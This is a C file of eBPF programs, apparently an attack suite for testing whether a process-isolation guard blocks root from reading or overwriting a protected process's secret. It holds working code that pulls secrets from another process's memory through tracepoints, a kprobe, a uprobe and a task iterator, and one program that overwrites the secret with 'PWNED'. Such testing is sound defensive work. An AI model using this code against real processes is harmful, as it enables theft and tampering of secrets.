/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * evil.bpf.c — root's own BPF programs against a secure process (loaded by `attack bpf`).
 *
 * Each program reads (or, *_write, overwrites) the victim's secret at `config.addr` from a
 * context where the victim's memory is reachable: a tracepoint, a raw tracepoint and a
 * kprobe that fire in the victim (when it reads its commands from stdin), a uprobe on its
 * compare_secret (argument 1 is the secret), and a task iterator that copies from any task.
 * What it read goes to the `result` map. A sealed guard refuses to load every one of these
 * program types; an unsealed guard does not stop them (root can switch ium off there anyway).
 */
#include <linux/types.h>
#include <linux/bpf.h>
#include <asm/ptrace.h>
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_tracing.h>

char LICENSE[] SEC("license") = "GPL";

struct config { __u32 tgid; __u32 pad; __u64 addr; };
struct result { __u32 hits; __u32 pad; char bytes[32]; };

struct {
    __uint(type, BPF_MAP_TYPE_ARRAY);
    __uint(max_entries, 1);
    __type(key, __u32);
    __type(value, struct config);
} config SEC(".maps");

struct {
    __uint(type, BPF_MAP_TYPE_ARRAY);
    __uint(max_entries, 1);
    __type(key, __u32);
    __type(value, struct result);
} result SEC(".maps");

static const char payload[] = "PWNED";

/* In the victim's own context: read (or overwrite) the secret at config.addr. */
static __always_inline int touch(const void *addr, int write)
{
    __u32 zero = 0;
    struct config *c = bpf_map_lookup_elem(&config, &zero);
    struct result *r = bpf_map_lookup_elem(&result, &zero);
    if (!c || !r || (bpf_get_current_pid_tgid() >> 32) != c->tgid)
        return 0;
    if (!addr)
        addr = (const void *)c->addr;
    long err = write ? bpf_probe_write_user((void *)addr, payload, sizeof payload)
                     : bpf_probe_read_user(r->bytes, 21, addr);
    if (err == 0)
        __sync_fetch_and_add(&r->hits, 1);
    return 0;
}

SEC("tp/syscalls/sys_enter_read")
int tp_read(void *ctx) { return touch(0, 0); }

SEC("tp/syscalls/sys_enter_read")
int tp_write(void *ctx) { return touch(0, 1); }

SEC("raw_tp/sys_enter")
int rawtp_read(void *ctx) { return touch(0, 0); }

SEC("kprobe/vfs_read")
int kprobe_read(void *ctx) { return touch(0, 0); }

/* Attached by the loader to the victim's compare_secret(const char *secret). */
SEC("uprobe")
int uprobe_read(struct pt_regs *ctx) { return touch((const void *)PT_REGS_PARM1(ctx), 0); }

/* A task iterator runs in the reader's context and copies from another task's memory. */
struct task_struct { int tgid; } __attribute__((preserve_access_index));
struct bpf_iter_meta;
struct bpf_iter__task { struct bpf_iter_meta *meta; struct task_struct *task; } __attribute__((preserve_access_index));

SEC("iter.s/task")
int iter_read(struct bpf_iter__task *ctx)
{
    __u32 zero = 0;
    struct task_struct *task = ctx->task;
    struct config *c = bpf_map_lookup_elem(&config, &zero);
    struct result *r = bpf_map_lookup_elem(&result, &zero);
    if (!task || !c || !r || task->tgid != (int)c->tgid)
        return 0;
    if (bpf_copy_from_user_task(r->bytes, 21, (void *)c->addr, task, 0) == 0)
        __sync_fetch_and_add(&r->hits, 1);
    return 0;
}

/* A program of the kind systemd and networking load: it must keep loading when sealed. */
SEC("socket")
int socket_filter(void *skb) { return 0; }

/* A second LSM program beside the guard (a reloaded or rival guard): refused when sealed. */
SEC("lsm/file_open")
int lsm_load(void *ctx) { return 0; }
